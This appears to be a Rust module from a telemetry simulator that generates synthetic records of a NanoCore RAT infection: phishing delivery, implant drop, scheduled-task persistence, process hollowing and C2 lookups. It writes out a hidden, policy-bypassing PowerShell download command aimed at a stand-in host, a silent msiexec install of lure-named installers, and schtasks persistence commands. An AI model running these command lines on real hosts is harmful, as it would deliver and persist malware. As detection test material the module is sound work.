//! `nanocore-infection`: delivery, the implant's drop and start, scheduled-task
//! persistence, the payload hollowed into a signed .NET utility, `run.dat`, and
//! C2 lookups paced by the client's connect / restart delays, keep-alives and the
//! resolver cache; reboots restart the implant through its task.

use std::sync::Arc;

mod c2;
mod persist;

use super::plan::Plan;
use crate::record::Record;
use crate::scenario::{Delivery, Drop, Hollow, InfectionParams, Launch, Persistence};
use crate::shapes::{basename, dirname, Host, Meta, Proc, Spec, Task, PIN};
use crate::stream::Activity;

const OUTLOOK: &str = r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE";
const WINWORD: &str = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE";
const WSCRIPT: &str = r"C:\Windows\System32\wscript.exe";
const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
const MSIEXEC: &str = r"C:\Windows\System32\msiexec.exe";
const SCHTASKS: &str = r"C:\Windows\System32\schtasks.exe";
const RUNDLL32: &str = r"C:\Windows\System32\rundll32.exe";
/// In a C2 name, a fresh random label at each lookup.
pub const RAND: &str = "%RAND%";
/// The .NET 2.0 framework folder NanoCore hollows into.
pub const NET2: &str = r"C:\Windows\Microsoft.NET\Framework\v2.0.50727";

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Next {
    Install,
    Connect,
    Relaunch,
}

pub struct Infection {
    host: Host,
    p: InfectionParams,
    end: i64,
    /// The persistence task (its action starts the implant).
    task: Task,
    /// `{GUID}` folder name of this host's install.
    guid_dir: String,
    implant_path: String,
    next: i64,
    what: Next,
    c2: Option<Arc<Proc>>,
    host_index: usize,
    /// Per C2 name: (cache expiry, the cached answer's address; `None`:
    /// NXDOMAIN).
    cache: Vec<(i64, Option<String>)>,
    next_reboot: Option<i64>,
    jitter: f64,
    scenario_id: String,
}

impl Infection {
    pub fn new(plan: &Plan, mut host: Host, p: InfectionParams) -> Infection {
        let window = (plan.end - plan.start).max(1) as f64;
        let within = (p.infect_within_minutes * 60_000.0).min(window * 0.5);
        let next = plan.start + (host.rng.unit() * within) as i64;
        let guid_dir = format!(
            "{{{}-{}-{}-{}-{}}}",
            host.rng.hex_upper(8),
            host.rng.hex_upper(4),
            host.rng.hex_upper(4),
            host.rng.hex_upper(4),
            host.rng.hex_upper(12)
        );
        let implant_path = host.expand(&p.implant_path).replace("%GUID%", &guid_dir);
        let cache = vec![(i64::MIN, None); p.c2_hosts.len()];
        let task = implant_task(&p.task_name, &implant_path, &p.implant_args);
        Infection {
            end: plan.end,
            task,
            guid_dir,
            implant_path,
            next,
            what: Next::Install,
            c2: None,
            host_index: 0,
            cache,
            next_reboot: None,
            jitter: plan.scenario.generator.jitter,
            scenario_id: plan.scenario.id.clone(),
            host,
            p,
        }
    }

    fn gap(&mut self) -> i64 {
        self.host.rng.range(200, 3_000)
    }

    fn secs(&mut self, s: f64) -> i64 {
        if s <= 0.0 {
            0
        } else {
            self.host.rng.jitter_ms(s * 1000.0, self.jitter)
        }
    }

    fn implant_meta(&self) -> Meta {
        let name = basename(&self.implant_path);
        if self.p.company.is_empty() {
            Meta::default()
        } else {
            let stem = name.rsplit_once('.').map_or(name, |(s, _)| s);
            Meta::new(&self.p.company, stem, stem, name, "1.0.0.0")
        }
    }

    fn is_dll(&self) -> bool {
        self.implant_path.to_ascii_lowercase().ends_with(".dll")
    }

    /// The hash key of the implant file (the same implant on every host; its
    /// pinned digests, when the scenario gives them).
    fn implant_key(&self) -> String {
        if let Some((sha256, sha1, md5)) = &self.p.implant_hashes {
            return format!("{PIN}{sha256}:{sha1}:{md5}");
        }
        format!(
            "implant:{}:{}",
            self.scenario_id,
            basename(&self.implant_path)
        )
    }

    /// The implant's process spec (a `.dll` runs under rundll32): the command
    /// line its task's action starts, too.
    fn implant_spec(&self) -> Spec {
        let spec = self.task.spec();
        if self.is_dll() {
            spec
        } else {
            spec.meta(self.implant_meta())
                .hash_key(self.implant_key())
                .cwd(&format!(r"{}\", dirname(&self.implant_path)))
        }
    }

    fn task_xml(&mut self, t: i64, writer: &Proc, out: &mut Vec<Record>) -> String {
        let xml = format!(
            r"{}\tmp{}.tmp",
            self.host.temp(),
            self.host.rng.hex_upper(4)
        );
        self.host.file(t, writer, &xml, "persistence-xml", out);
        xml
    }

    fn install(&mut self, t: i64, out: &mut Vec<Record>) {
        let (t, dropper) = self.deliver(t, out);
        let t = self.drop_implant(t, &dropper, out);
        let (t, implant) = self.launch(t, &dropper, out);
        self.payload(t, &implant, true, out);
    }

    /// Delivery, the first step: the process that drops the implant (a mail
    /// attachment's script or executable, a macro's PowerShell, an MSI).
    fn deliver(&mut self, mut t: i64, out: &mut Vec<Record>) -> (i64, Arc<Proc>) {
        let explorer = Arc::clone(&self.host.boot.explorer);
        let dropper = match self.p.delivery {
            Delivery::Vbs | Delivery::Invoice => self.mail(&mut t, &explorer, out),
            Delivery::Powershell => {
                let doc = format!(
                    r"{}\Downloads\Remittance_{}.docm",
                    self.host.profile(),
                    self.host.rng.range(1000, 9999)
                );
                let word = match self.chain(&mut t, &explorer, out) {
                    Some(last) => last,
                    None => self.host.spawn(
                        t,
                        &explorer,
                        Spec::new(WINWORD, &format!(r#""{WINWORD}" /n "{doc}" /o """#)),
                        "macro-document",
                        out,
                    ),
                };
                t += self.gap() * 5;
                let stage = "cdn.filedrop-share.net";
                let blob = self.host.rng.hex(10);
                let url = self
                    .p
                    .download_url
                    .clone()
                    .unwrap_or_else(|| format!("https://{stage}/d/{blob}.bin"));
                let ps = self.host.spawn(
                    t,
                    &word,
                    Spec::new(
                        POWERSHELL,
                        &format!(
                            r#"powershell.exe -NoP -W Hidden -Exec Bypass -C "iwr -UseBasicParsing {url} -OutFile '{}'""#,
                            self.implant_path
                        ),
                    ),
                    "dropper",
                    out,
                );
                t += self.gap();
                self.download(t, &ps, &url, out);
                ps
            }
            Delivery::Loader => {
                // The scenario's check makes sure a chain is given.
                self.chain(&mut t, &explorer, out).unwrap_or(explorer)
            }
            Delivery::Msi => {
                const NAMES: [&str; 3] = [
                    "AdobeReaderUpdate.msi",
                    "Invoice-Viewer.msi",
                    "ZoomInstallerFull.msi",
                ];
                let msi = format!(
                    r"{}\Downloads\{}",
                    self.host.profile(),
                    self.host.rng.pick(&NAMES).unwrap_or(&NAMES[0])
                );
                let opener = self.chain(&mut t, &explorer, out).unwrap_or(explorer);
                self.host.spawn(
                    t,
                    &opener,
                    Spec::new(MSIEXEC, &format!(r#""{MSIEXEC}" /i "{msi}" /qn"#)),
                    "dropper",
                    out,
                )
            }
        };
        (t, dropper)
    }

    /// A mail delivery: Outlook (or the scenario's chain) saves the
    /// attachment, a script `wscript.exe` runs or an executable the user
    /// starts: the dropper.
    fn mail(&mut self, t: &mut i64, explorer: &Arc<Proc>, out: &mut Vec<Record>) -> Arc<Proc> {
        let outlook = match self.chain(t, explorer, out) {
            Some(last) => last,
            None => self.host.spawn(
                *t,
                explorer,
                Spec::new(OUTLOOK, &format!(r#""{OUTLOOK}" /recycle"#)),
                "mail-client",
                out,
            ),
        };
        *t += self.gap() * 10;
        if self.p.delivery == Delivery::Vbs {
            const NAMES: [&str; 4] = [
                "Rechnung_0521.vbs",
                "Invoice_88231.vbs",
                "Payment_Advice.vbs",
                "PO-4471.vbs",
            ];
            let vbs = format!(
                r"{}\{}",
                self.host.temp(),
                self.host.rng.pick(&NAMES).unwrap_or(&NAMES[0])
            );
            self.host.file(*t, &outlook, &vbs, "attachment", out);
            *t += self.gap() * 5;
            self.host.spawn(
                *t,
                &outlook,
                Spec::new(WSCRIPT, &format!(r#""{WSCRIPT}" "{vbs}""#)),
                "dropper",
                out,
            )
        } else {
            let (cache, number) = (
                self.host.rng.hex_upper(8),
                self.host.rng.range(10_000, 99_999),
            );
            // Opened from the scenario's chain (a browser), it was downloaded.
            let exe = if self.p.parent_chain.is_empty() {
                format!(
                    r"{}\Microsoft\Windows\INetCache\Content.Outlook\{cache}\Invoice_{number}.exe",
                    self.host.local_appdata()
                )
            } else {
                format!(r"{}\Downloads\Invoice_{number}.exe", self.host.profile())
            };
            let key = format!("dropper:{}", self.scenario_id);
            self.host.write(*t, &outlook, &exe, &key, "attachment", out);
            *t += self.gap() * 5;
            self.host.spawn(
                *t,
                &outlook,
                Spec::new(&exe, &format!(r#""{exe}""#)).hash_key(key),
                "dropper",
                out,
            )
        }
    }

    /// The second step: the implant file, written by the dropper (directly, or
    /// as a temporary file renamed into place).
    fn drop_implant(&mut self, mut t: i64, dropper: &Arc<Proc>, out: &mut Vec<Record>) -> i64 {
        t += self.gap();
        if self.p.delivery != Delivery::Powershell {
            if let Some(url) = self.p.download_url.clone() {
                self.download(t, dropper, &url, out);
                t += self.gap();
            }
        }
        let implant_path = self.implant_path.clone();
        let key = self.implant_key();
        match self.p.drop {
            Drop::Write => self
                .host
                .write(t, dropper, &implant_path, &key, "drop-implant", out),
            Drop::Rename => {
                let tmp = format!(
                    r"{}\~DF{}.tmp",
                    dirname(&implant_path),
                    self.host.rng.hex_upper(4)
                );
                self.host.write(t, dropper, &tmp, &key, "drop-implant", out);
                t += self.gap() / 4 + 1;
                self.host
                    .rename(t, dropper, &tmp, &implant_path, &key, "drop-implant", out);
            }
        }
        t
    }

    /// The third step: start the implant, directly or through its scheduled
    /// task, and register the task.
    fn launch(
        &mut self,
        mut t: i64,
        dropper: &Arc<Proc>,
        out: &mut Vec<Record>,
    ) -> (i64, Arc<Proc>) {
        t += self.gap();
        let task = self.task.clone();
        let create_cmd = format!(
            r#""{SCHTASKS}" /create /f /tn "{}" /xml "{{xml}}""#,
            task.name.trim_start_matches('\\')
        );
        let implant = match self.p.launch {
            Launch::Direct => {
                let implant = self
                    .host
                    .spawn(t, dropper, self.implant_spec(), "implant", out);
                if self.p.persistence == Persistence::ScheduledTask {
                    t += self.gap();
                    let xml = self.task_xml(t, &implant, out);
                    t += self.gap();
                    let sch = self.host.spawn(
                        t,
                        &implant,
                        Spec::new(SCHTASKS, &create_cmd.replace("{xml}", &xml)),
                        "persistence",
                        out,
                    );
                    t += self.gap() / 4 + 1;
                    self.host.register_task(t, &sch, &task, "persistence", out);
                } else {
                    t = self.persist(t, &implant, out);
                }
                implant
            }
            Launch::SchtasksRun => {
                // The dropper registers the task, then asks the Task Scheduler
                // to run it now: the service starts the implant.
                let xml = self.task_xml(t, dropper, out);
                t += self.gap();
                let sch = self.host.spawn(
                    t,
                    dropper,
                    Spec::new(SCHTASKS, &create_cmd.replace("{xml}", &xml)),
                    "persistence",
                    out,
                );
                t += self.gap() / 4 + 1;
                self.host.register_task(t, &sch, &task, "persistence", out);
                t += self.gap();
                self.host.spawn(
                    t,
                    dropper,
                    Spec::new(
                        SCHTASKS,
                        &format!(
                            r#""{SCHTASKS}" /run /tn "{}""#,
                            task.name.trim_start_matches('\\')
                        ),
                    ),
                    "task-run",
                    out,
                );
                t += self.gap();
                self.host.run_task(t, self.implant_spec(), "implant", out)
            }
        };
        (t, implant)
    }

    /// Hollow (if configured), write the payload's files (on install: NanoCore's
    /// `run.dat`) and schedule the first connection.
    fn payload(&mut self, mut t: i64, implant: &Arc<Proc>, first: bool, out: &mut Vec<Record>) {
        let c2 = match self.p.hollow {
            _ if self.p.hollow_image.is_some() => {
                let image = self.p.hollow_image.clone().unwrap_or_default();
                t += self.gap();
                self.host.spawn(
                    t,
                    implant,
                    Spec::new(&image, &format!(r#""{image}""#)),
                    "hollow",
                    out,
                )
            }
            Hollow::None => Arc::clone(implant),
            Hollow::RegAsm | Hollow::RegSvcs => {
                let exe = if self.p.hollow == Hollow::RegAsm {
                    "RegAsm.exe"
                } else {
                    "RegSvcs.exe"
                };
                let image = format!(r"{NET2}\{exe}");
                t += self.gap();
                self.host.spawn(
                    t,
                    implant,
                    Spec::new(&image, &format!(r#""{image}""#)),
                    "hollow",
                    out,
                )
            }
        };
        if first {
            for name in self.p.payload_files.clone() {
                t += self.gap();
                let path = format!(r"{}\{}\{name}", self.host.appdata(), self.guid_dir);
                self.host.file(t, &c2, &path, &step_of(&name), out);
            }
        }
        self.c2 = Some(c2);
        self.host_index = 0;
        for c in &mut self.cache {
            *c = (i64::MIN, None);
        }
        let first_connect = t + self.secs(self.p.connect_delay_seconds) + 1;
        self.schedule(first_connect);
    }

    /// Set the next episode: a connection at `at`, unless a reboot comes first
    /// (then the host restarts, and the task starts the implant again a few
    /// seconds after the user logs on).
    fn schedule(&mut self, at: i64) {
        match self.next_reboot {
            Some(r) if r <= at => {
                self.host.reboot(r);
                self.next = self.host.boot.explorer.created_ms + self.host.rng.range(2_000, 20_000);
                self.what = Next::Relaunch;
            }
            _ => {
                self.next = at;
                self.what = Next::Connect;
            }
        }
    }

    fn relaunch(&mut self, t: i64, out: &mut Vec<Record>) {
        // The task starts the implant after boot; the resolver cache is empty.
        let implant = self.restart(t, out);
        if let Some(every) = self.p.reboot_every_hours {
            let r = self.next_reboot.unwrap_or(t);
            self.next_reboot = Some(
                r + self
                    .host
                    .rng
                    .jitter_ms(every * 3_600_000.0, self.jitter)
                    .max(600_000),
            );
        }
        self.payload(t, &implant, false, out);
    }
}

/// The persistence task: its action runs the implant (a `.dll` under rundll32).
fn implant_task(name: &str, implant_path: &str, args: &str) -> Task {
    let args = args.trim();
    if implant_path.to_ascii_lowercase().ends_with(".dll") {
        let sep = if args.is_empty() { "" } else { " " };
        Task::new(
            name,
            RUNDLL32,
            &format!(r#""{implant_path}",Start{sep}{args}"#),
            false,
        )
    } else {
        Task::new(name, implant_path, args, false)
    }
}

impl Activity for Infection {
    fn next_start(&self) -> Option<i64> {
        (self.next < self.end).then_some(self.next)
    }

    fn emit(&mut self, out: &mut Vec<Record>) {
        let t = self.next;
        match self.what {
            Next::Install => {
                if let Some(every) = self.p.reboot_every_hours {
                    self.next_reboot = Some(
                        t + self
                            .host
                            .rng
                            .jitter_ms(every * 3_600_000.0, self.jitter)
                            .max(600_000),
                    );
                }
                self.install(t, out);
            }
            Next::Connect => self.connect(t, out),
            Next::Relaunch => self.relaunch(t, out),
        }
    }
}

/// A payload file's step: its name in lower case, each run of other
/// characters a `-` (`run.dat` is `run-dat`).
fn step_of(name: &str) -> String {
    let mut out = String::new();
    for ch in name.chars() {
        if ch.is_ascii_alphanumeric() {
            out.push(ch.to_ascii_lowercase());
        } else if !out.ends_with('-') {
            out.push('-');
        }
    }
    out.trim_matches('-').to_owned()
}
